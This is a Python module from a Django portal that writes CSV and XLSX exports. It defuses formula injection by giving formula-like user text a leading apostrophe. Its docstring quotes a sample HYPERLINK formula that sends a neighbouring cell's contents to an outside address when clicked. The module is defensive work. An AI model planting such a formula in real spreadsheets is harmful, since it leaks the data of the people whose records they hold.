"""Spreadsheets the portal writes (CSV, XLSX), and the one rule they all follow:
a cell never carries a live formula.

A text that people typed and that starts with =, +, -, @, a tab or a carriage
return would be run as a formula by a spreadsheet program (CSV/formula
injection: `=HYPERLINK("https://…/?"&J2,"Voir")` sends the neighbouring cell
away when clicked). Such a text is written with a leading apostrophe, which
spreadsheet programs show as text (OWASP's advice). Numbers stay numbers.
The admin's exports (django-import-export) apply the same rule through
`inert` (partners/resources.py).
"""

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.styles import Font

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def inert(value):
    """The value as a spreadsheet may hold it: a text that could start a formula
    gets a leading apostrophe; anything else is left as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_value(value):
    """Spreadsheets have no time zones (Casablanca time, without tzinfo) and no
    Decimal; None is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return float(value)
    if getattr(value, "tzinfo", None) is not None:
        return timezone.localtime(value).replace(tzinfo=None)
    return inert(value)


def to_csv(rows: Iterable[list]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([spreadsheet_value(cell) for cell in row])
    # With a BOM, Excel opens accents and Arabic correctly.
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(sheets: dict[str, Iterable[list]]) -> bytes:
    """One sheet per entry (title -> rows, the first row a bold header)."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title=str(title)[:31])
        for row in rows:
            sheet.append([spreadsheet_value(cell) for cell in row])
        for cell in sheet[1]:
            cell.font = Font(bold=True)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def download(content: bytes, content_type: str, filename: str) -> HttpResponse:
    """A private attachment: never cached by a proxy or kept by the browser."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "private, no-store"
    return response
